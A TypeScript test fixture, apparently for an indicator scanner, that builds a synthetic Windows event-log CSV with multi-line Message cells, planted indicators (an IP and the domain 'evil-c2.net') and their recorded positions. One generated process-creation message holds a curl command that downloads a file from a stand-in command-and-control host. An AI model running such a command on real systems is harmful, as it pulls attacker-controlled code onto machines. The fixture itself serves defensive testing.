// A CSV log written the way Windows event logs are saved as CSV (PowerShell Export-Csv: every cell
// quoted, CRLF, a Message cell with line breaks), with planted indicators and where each one is, for
// the tests of CSV rows that span lines. Written by the team; no real event text.

export const EVENT_IP = '45.86.12.34';
export const EVENT_DOMAIN = 'evil-c2.net';
export const EVENT_HEADER = ['TimeCreated', 'Id', 'Computer', 'Message', 'SourceIp'];

/** A planted hit: its physical line (1-based), the column it is in, and the indicator it matches. */
export interface PlantedHit {
  line: number;
  field: string;
  indicator: string;
}

export interface EventCsv {
  text: string;
  hits: PlantedHit[];
  /** Byte offsets where rows start (after the header), as MAX_ROW_LINES rows are read. */
  rowStarts: number[];
}

/**
 * `rows` rows cycling through single-line rows and rows whose Message spans 2 to 12 lines (blank
 * lines, commas and `""` inside it; hits inside it, on its first line and in the column after it);
 * every 40th row is followed by 70 single-line rows (a place a parallel range may start). `stray`:
 * row numbers after which an unquoted row with a lone `"` is written, followed by 70 single-line rows
 * with a hit in Computer (a stray quote: each of those lines is a row of its own).
 */
export function eventCsv(rows: number, stray: readonly number[] = []): EventCsv {
  const out: string[] = [];
  const hits: PlantedHit[] = [];
  const rowStarts: number[] = [];
  let bytes = 0;
  const row = (lines: string[], planted: { at: number; field: string; indicator: string }[] = []): void => {
    rowStarts.push(bytes);
    for (const p of planted) hits.push({ line: out.length + 1 + p.at, field: p.field, indicator: p.indicator });
    for (const l of lines) {
      out.push(l);
      bytes += Buffer.byteLength(l) + 2;
    }
  };
  out.push(EVENT_HEADER.map((h) => `"${h}"`).join(','));
  bytes = Buffer.byteLength(out[0] as string) + 2;
  const plain = (i: number, hit: boolean): void =>
    row([`"2026-01-01T00:00:00Z","1","host-${i}","ok","${hit ? EVENT_IP : '10.0.0.3'}"`], hit ? [{ at: 0, field: 'SourceIp', indicator: EVENT_IP }] : []);
  for (let i = 0; i < rows; i++) {
    const ts = `"2026-01-01T00:${String(i % 60).padStart(2, '0')}:00Z"`;
    const k = i % 5;
    if (k === 0) {
      row([`${ts},"4624","host-${i}","An account logged on from ${EVENT_IP}, via ""RDP""","10.0.${i % 250}.1"`], [{ at: 0, field: 'Message', indicator: EVENT_IP }]);
    } else if (k === 1) {
      const extra = Array.from({ length: i % 9 }, (_, j) => (j % 3 === 0 ? '' : `\tLine ${j}:\tvalue, more`));
      row([`${ts},"4688","host-${i}","A new process has been created.`, ...extra, `\tCommand Line:\tcurl ""http://h${i}.${EVENT_DOMAIN}/x"", -o out`, `end.","${EVENT_IP}"`], [
        { at: 1 + extra.length, field: 'Message', indicator: EVENT_DOMAIN },
        { at: 2 + extra.length, field: 'SourceIp', indicator: EVENT_IP },
      ]);
    } else if (k === 2) {
      row([`${ts},"5156","h${i}.${EVENT_DOMAIN}","Filtering platform,`, 'allowed a connection.","10.0.0.2"'], [{ at: 0, field: 'Computer', indicator: EVENT_DOMAIN }]);
    } else if (k === 3) {
      plain(i, false);
    } else {
      row([`${ts},"4104","host-${i}","Script block:`, '\t""quoted"", ""more"",', '","10.9.9.9"']);
    }
    if (i % 40 === 39) for (let j = 0; j < 70; j++) plain(j, j % 7 === 0);
    if (stray.includes(i)) {
      row(['2026-01-01T00:00:00Z,9999,host-stray,a stray " quote in an unquoted row,10.0.0.9']);
      for (let j = 0; j < 70; j++) {
        row([`"2026-01-01T00:00:00Z","2","h${j}.${EVENT_DOMAIN}","ok, fine","10.0.0.4"`], [{ at: 0, field: 'Computer', indicator: EVENT_DOMAIN }]);
      }
    }
  }
  return { text: `${out.join('\r\n')}\r\n`, hits, rowStarts };
}
